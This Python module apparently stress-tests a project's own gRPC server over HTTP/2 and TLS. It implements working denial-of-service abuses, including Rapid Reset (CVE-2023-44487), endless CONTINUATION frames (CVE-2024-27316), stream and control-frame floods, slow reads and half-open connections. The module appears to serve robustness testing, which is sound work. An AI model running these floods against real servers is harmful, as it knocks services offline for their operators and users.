"""What HTTP/2 and TLS permit and a server must bear: resets, floods of headers, streams and connections left half open.

Each abuse opens its own connections, sends until the other end hangs up or the count is reached, and returns how many
frames, or connections, that was.
"""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from random import Random
from typing import Final

import h2.config
import h2.connection
import h2.exceptions
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from protos import tls
from security.identity.enrolment import Identity

WAIT: Final = 5.0
GONE: Final = (OSError, ssl.SSLError, h2.exceptions.ProtocolError)


@dataclass
class Attacker:
    """Whom to attack, with whose certificate (None: without one), and connections that are kept half open."""

    host: str
    port: int
    root: Identity
    identity: Identity | None
    rng: Random
    held: list[socket.socket] = field(default_factory=list)

    def context(self) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.root.root_path))
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols(["h2"])
        if self.identity is not None:
            context.load_cert_chain(self.identity.tls_path, self.identity.tls_key_path())
        return context

    def dial(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=WAIT)

    def secure(self) -> ssl.SSLSocket:
        return self.context().wrap_socket(self.dial(), server_hostname=self.host)

    @contextmanager
    def connected(self) -> Iterator[tuple[ssl.SSLSocket, h2.connection.H2Connection]]:
        with self.secure() as line:
            state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            state.initiate_connection()
            line.sendall(state.data_to_send())
            yield line, state

    def headers(self) -> list[tuple[str, str]]:
        return [
            (":method", "POST"), (":path", tls.METHOD), (":scheme", "https"), (":authority", self.host),
            ("te", "trailers"), ("content-type", "application/grpc"),
        ]  # fmt: skip

    def release(self) -> None:
        for line in self.held:
            with suppress(OSError):
                line.close()
        self.held.clear()


def _drain(line: ssl.SSLSocket) -> None:
    """Read what is there: a peer that never reads is another abuse."""
    line.settimeout(0.0)
    try:
        while line.recv(1 << 16):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        line.settimeout(WAIT)


def rapid_reset(attacker: Attacker, count: int) -> int:
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    sent = 0
    with suppress(*GONE), attacker.connected() as (line, state):
        block = state.encoder.encode(attacker.headers())
        for number in range(1, 2 * count, 2):
            opened = HeadersFrame(number, data=block, flags=["END_HEADERS"])
            line.sendall(opened.serialize() + RstStreamFrame(number, error_code=8).serialize())
            sent += 2
            if sent % 200 == 0:
                _drain(line)
    return sent


def many_streams(attacker: Attacker, count: int) -> int:
    """Streams that are opened and say nothing."""
    sent = 0
    line = attacker.secure()
    attacker.held.append(line)
    with suppress(*GONE):
        state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        state.initiate_connection()
        line.sendall(state.data_to_send())
        block = state.encoder.encode(attacker.headers())
        for number in range(1, 2 * count, 2):
            line.sendall(HeadersFrame(number, data=block, flags=["END_HEADERS"]).serialize())
            sent += 1
            if sent % 200 == 0:
                _drain(line)
    return sent


def endless_headers(attacker: Attacker, count: int) -> int:
    """One header block that never ends (CVE-2024-27316)."""
    sent = 0
    with suppress(*GONE), attacker.connected() as (line, state):
        line.sendall(HeadersFrame(1, data=state.encoder.encode(attacker.headers())).serialize())
        for number in range(count):
            block = state.encoder.encode([(f"x-{number}", "y" * 1000)])
            line.sendall(ContinuationFrame(1, data=block).serialize())
            sent += 1
    return sent


def large_headers(attacker: Attacker, count: int) -> int:
    """Streams with more metadata than any message of this protocol has."""
    sent = 0
    with suppress(*GONE), attacker.connected() as (line, state):
        for number in range(1, 2 * count, 2):
            block = state.encoder.encode([*attacker.headers(), *((f"x-{place}", "z" * 1500) for place in range(8))])
            line.sendall(HeadersFrame(number, data=block, flags=["END_HEADERS"]).serialize())
            sent += 1
            _drain(line)
    return sent


def slow_read(attacker: Attacker, count: int) -> int:
    """Streams whose window is closed, on a connection that is never read from."""
    line = attacker.secure()
    attacker.held.append(line)
    sent = 0
    with suppress(*GONE):
        state = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        state.initiate_connection()
        state.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        line.sendall(state.data_to_send())
        block = state.encoder.encode(attacker.headers())
        for number in range(1, 2 * count, 2):
            line.sendall(HeadersFrame(number, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
            sent += 1
    return sent


def control_frames(attacker: Attacker, count: int) -> int:
    """Pings, settings and windows without end."""
    sent = 0
    with suppress(*GONE), attacker.connected() as (line, _):
        for _ in range(count):
            frame = attacker.rng.choice([
                PingFrame(0, opaque_data=attacker.rng.randbytes(8)),
                SettingsFrame(0, settings={4: attacker.rng.randrange(2**31)}),
                WindowUpdateFrame(0, window_increment=1),
            ])  # fmt: skip
            line.sendall(frame.serialize())
            sent += 1
            if sent % 50 == 0:
                _drain(line)
    return sent


def noise(attacker: Attacker, count: int) -> int:
    """Random bytes where frames should be, and where TLS should be."""
    sent = 0
    for number in range(count):
        with suppress(*GONE), (attacker.secure() if number % 2 else attacker.dial()) as line:
            line.sendall(attacker.rng.randbytes(attacker.rng.randint(1, 2000)))
            sent += 1
    return sent


def half_open(attacker: Attacker, count: int) -> int:
    """Connections that never begin TLS."""
    with suppress(*GONE):
        for _ in range(count):
            attacker.held.append(attacker.dial())
    return len(attacker.held)


ABUSES: Final[tuple[Callable[[Attacker, int], int], ...]] = (
    rapid_reset, many_streams, endless_headers, large_headers, slow_read, control_frames, noise, half_open,
)  # fmt: skip


def storm(attacker: Attacker, count: int, until: Callable[[], bool] = lambda: False) -> dict[str, int]:
    """Every abuse once, `count` times as long as the shortest of them."""
    done: dict[str, int] = {}
    try:
        for abuse in ABUSES:
            if until():
                break
            most = count if abuse not in (noise, half_open, large_headers) else max(8, count // 20)
            with suppress(*GONE):
                done[abuse.__name__] = abuse(attacker, most)
            time.sleep(0.05)
    finally:
        attacker.release()
    return done
